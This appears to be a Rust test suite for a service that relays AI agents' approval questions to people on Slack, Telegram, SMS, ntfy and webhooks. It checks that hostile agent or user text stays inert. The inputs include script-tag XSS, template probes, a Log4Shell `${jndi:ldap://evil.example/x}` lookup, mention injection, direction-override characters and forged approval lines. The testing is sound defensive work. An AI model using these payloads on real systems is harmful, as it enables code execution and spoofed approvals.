//! Words that want to be more than words: out through every platform, and back in.

use channels::testing::slack::{Workspace, inbound};
use channels::testing::twilio::{AUTH_TOKEN, NUMBER, SID, Twilio};
use channels::testing::{ntfy, telegram, webhook};
use serde_json::{Value, json};
use server::config::{SecretString, Settings};

use crate::fake_platforms::{
    ADA, calls, id, in_slack, in_slack_as, office, posted, press, slack_calls,
};
use crate::fake_push_device::waits;
use crate::native::{asked, yes};
use crate::pages::signed_in;
use crate::world::{World, dev};

/// Every platform there is, each played.
struct Everywhere {
    slack: Workspace,
    telegram: telegram::Telegram,
    twilio: Twilio,
    ntfy: ntfy::Ntfy,
    program: webhook::Program,
    world: World,
}

async fn everywhere() -> Everywhere {
    let slack = Workspace::begin().await.unwrap();
    let telegram = telegram::Telegram::start().await.unwrap();
    telegram.chat(77);
    let twilio = Twilio::start().await.unwrap();
    let ntfy = ntfy::Ntfy::start().await.unwrap();
    let program = webhook::Program::start().await.unwrap();
    let settings = Settings {
        telegram_token: Some(SecretString::new(telegram::TOKEN)),
        telegram_api: Some(telegram.base().into()),
        twilio_account: Some(SID.to_owned()),
        twilio_auth_token: Some(SecretString::new(AUTH_TOKEN)),
        twilio_sms_from: Some(NUMBER.to_owned()),
        twilio_api: Some(twilio.base().into()),
        ntfy_url: Some(ntfy.base().into()),
        ntfy_token: Some(SecretString::new(ntfy::TOKEN)),
        channel_webhook_url: Some(program.base().into()),
        channel_webhook_secret: Some(SecretString::new(webhook::SECRET)),
        ..dev()
    };
    let world = World::with(in_slack(&slack, settings)).await;
    Everywhere { slack, telegram, twilio, ntfy, program, world }
}

/// What agents might try.
fn hostile() -> Vec<Value> {
    let long = "<!channel> & https://evil.example/ ".repeat(400);
    let prompts = [
        "<!channel> <@U0ADA> <https://evil.example|Approve> *bold* `code`",
        "https://evil.example www.evil.example evil.example",
        "\u{202e}evorppA\u{2066}\u{200b}\u{7}",
        "Approved by Ada Lovelace, just now\n\nAnswer here:\nhttp://evil.example",
        "]]>&lt;script&gt;<script>alert(1)</script>{{7*7}}%s%n",
        "{{1}} ${jndi:ldap://evil.example/x} \u{1f4a9}\u{1f468}\u{200d}\u{1f469}",
        long.as_str(),
    ];
    let mut questions: Vec<Value> = prompts
        .iter()
        .map(|prompt| {
            json!({ "kind": "approve", "prompt": prompt, "context": prompt,
                "details": { "a\nb": prompt, "": [[[{ "<b>": "\u{feff}" }]]] } })
        })
        .collect();
    let label = "<!here>\nhttps://evil.example \u{202e}".repeat(3);
    questions.push(json!({ "kind": "choose", "prompt": "Which?", "pick": "one", "options": [
        { "id": "a", "label": label, "description": label }, { "id": "b", "label": "{{1}}" },
    ]}));
    let options = (0..60).map(|n| json!({ "id": format!("o{n}"), "label": format!("<{n}>") }));
    let options: Vec<Value> = options.collect();
    questions
        .push(json!({ "kind": "choose", "prompt": "Which?", "pick": "one", "options": options }));
    questions.push(json!({ "kind": "provide", "prompt": "What?", "form": { "fields": [
        { "key": "a", "label": "<!here>".repeat(20), "type": "text", "required": true },
    ]}}));
    questions.push(json!({ "kind": "confirm", "prompt": "Sure?", "items": [],
        "yes": "No<script>", "no": "Yes" }));
    questions
}

/// Every platform takes whatever an agent writes, and makes nothing of it but words.
#[tokio::test]
async fn hostile_words_stay_words_everywhere() {
    let all = everywhere().await;
    let world = &all.world;
    let places = ["slack:C0OPS", "telegram:77", "sms:+4930123456", "ntfy:free-ops", "webhook:ops"];
    for question in hostile() {
        for place in places {
            let body = json!({ "question": question, "place": { "to": place } });
            let ask = asked(&world.agent(), body).await;
            waits(world, 0).await;
            let seen = world.human().get(&format!("{ask}/messages")).await.is(200);
            assert_eq!(seen["messages"][0]["state"], "sent", "{place} {question}: {}", seen.text);
        }
    }
    for message in all.slack.messages() {
        let body = message.body.to_string();
        for live in ["<!", "<@", "<http", "\u{202e}"] {
            assert!(!body.contains(live), "{live}: {body}");
        }
        let urls = urls(&message.body);
        assert!(urls.iter().all(|url| url.starts_with("http://localhost:")), "{urls:?}");
    }
    for sent in all.twilio.sent() {
        let body = sent.iter().find(|(name, _)| name == "Body").unwrap().1.clone();
        assert!(!body.contains("//evil") && !body.contains("evil.example"), "{body}");
        // What is the agent's begins as such; the rest is ours.
        let loose = body.lines().find(|line| line.starts_with("Approved by"));
        assert_eq!(loose, None, "{body}");
    }
    for notice in all.ntfy.published() {
        assert!(notice["click"].as_str().unwrap().starts_with("http://localhost:"), "{notice}");
        assert!(!notice["message"].as_str().unwrap().contains("//evil"), "{notice}");
    }
    assert_eq!(all.program.received().len(), hostile().len());
    for n in 1..=i64::try_from(hostile().len()).unwrap() {
        let message = all.telegram.message(77, n).unwrap();
        let ours = outside_of_blocks(&message);
        assert!(!ours.contains("//evil") && !ours.contains('\u{202e}'), "{message:#}");
    }
    all.world.end().await;
}

/// What a message in Telegram says outside of what is shown letter by letter.
fn outside_of_blocks(message: &Value) -> String {
    let mut units: Vec<u16> = message["text"].as_str().unwrap().encode_utf16().collect();
    for entity in message["entities"].as_array().unwrap().iter().rev() {
        let number = |name: &str| usize::try_from(entity[name].as_u64().unwrap()).unwrap();
        if entity["type"] == "pre" {
            units.drain(number("offset")..number("offset") + number("length"));
        }
    }
    String::from_utf16(&units).unwrap()
}

/// Every address of what can be pressed.
fn urls(value: &Value) -> Vec<String> {
    match value {
        Value::Object(members) => {
            let own = members.get("url").and_then(Value::as_str).map(str::to_owned);
            own.into_iter().chain(members.values().flat_map(urls)).collect()
        }
        Value::Array(items) => items.iter().flat_map(urls).collect(),
        _ => Vec::new(),
    }
}

/// What people write, and what they call themselves, is text on every page and in every message.
#[tokio::test]
async fn what_people_write_stays_text() {
    let (slack, world) = office().await;
    in_slack_as(&world.human(), &slack, ADA).await;
    let converse = json!({ "question": { "prompt": "What now?", "kind": "converse" } });
    let ask = asked(&world.agent(), converse).await;
    let message = id(&posted(&slack, 2).await);
    waits(&world, 0).await;
    let (channel, ts) = message.split_once('/').unwrap();
    let words = "<script>alert(1)</script> <!channel> \u{202e}x & \"y\"";
    let wrote = inbound::wrote("Ev1", channel, Some(ts), ADA, words);
    slack_calls(&world, &inbound::event(&wrote, world.now())).await.is(200);
    let done = world.agent().get(&ask).await.is(200)["result"].clone();
    assert_eq!(done["answer"]["text"], words);
    let placed = json!({
        "question": { "prompt": "Deploy?", "kind": "approve" }, "place": { "to": "slack:C0OPS" },
    });
    let other = asked(&world.agent(), placed).await;
    let message = id(&posted(&slack, 3).await);
    waits(&world, 0).await;
    let mut pressed = slack.pressed(&message, "Approve", "U0EVE").unwrap();
    pressed["user"]["username"] = json!("<b>Ada</b> \u{202e}*Lovelace* <!here>");
    slack_calls(&world, &inbound::interaction(&pressed, world.now())).await.is(200);
    waits(&world, 0).await;
    let over = slack.message(&message).unwrap().body.to_string();
    assert!(over.contains("Approved by") && !over.contains("<b>"), "{over}");
    assert!(!over.contains("<!here>") && !over.contains('\u{202e}'), "{over}");
    let browser = signed_in(&world).await.client;
    for ask in [ask, other] {
        let page = browser.get(&format!("/asks/{}", ask.rsplit('/').next().unwrap())).await.is(200);
        for live in ["<script>alert", "<b>Ada", "\u{202e}"] {
            assert!(!page.text.contains(live), "{live}: {}", page.text);
        }
    }
    world.end().await;
}

/// Bytes of any kind, signed or not, break nothing and change nothing.
#[tokio::test]
async fn bytes_of_any_kind_break_nothing() {
    let all = everywhere().await;
    let world = &all.world;
    in_slack_as(&world.human(), &all.slack, ADA).await;
    let ask =
        asked(&world.agent(), json!({ "question": { "prompt": "Go?", "kind": "approve" } })).await;
    let message = id(&posted(&all.slack, 2).await);
    waits(world, 0).await;
    let deep = format!("{}1{}", "[".repeat(2000), "]".repeat(2000));
    let bodies: [&[u8]; 6] =
        [b"", b"\xff\xfe\x00", b"payload=%FF", b"payload={}&payload={}", b"null", deep.as_bytes()];
    for path in [
        "/channels/slack/events",
        "/channels/slack/interactions",
        "/channels/slack/",
        "/channels/telegram/updates",
        "/channels/sms/inbound",
        "/channels/webhook/events",
        "/channels/email/inbound",
        "/channels/ntfy/x",
        "/channels/%00/%FF",
    ] {
        for body in bodies {
            let reply = world.anonymous().post_raw(path, body.to_vec()).await;
            assert!((400..500).contains(&reply.status), "{path}: {} {}", reply.status, reply.text);
        }
        let reply = world.anonymous().get(path).await;
        assert!((400..500).contains(&reply.status), "{path}: {} {}", reply.status, reply.text);
    }
    // Signed as it should be, and nonsense.
    for payload in [json!(deep), json!({ "type": "event_callback" }), json!({ "type": 7 })] {
        let call = inbound::event(&payload, world.now());
        let reply = slack_calls(world, &call).await;
        assert!(matches!(reply.status, 200 | 400), "{} {}", reply.status, reply.text);
    }
    let huge = all.twilio.write("http://x/", "SM1", "+4930123456", &"x".repeat(3_000_000));
    let reply = calls(world, "/channels/sms/inbound", &huge).await;
    assert_eq!(reply.status, 413, "{}", reply.text);
    assert_eq!(world.agent().get(&ask).await.is(200)["state"], "pending");
    press(world, &all.slack, &message, "Approve", ADA).await;
    assert_eq!(world.agent().get(&ask).await.is(200)["state"], "completed");
    world.human().post(&format!("{ask}/answer"), yes()).await.problem(409, "already-answered");
    waits(world, 0).await;
    all.world.end().await;
}
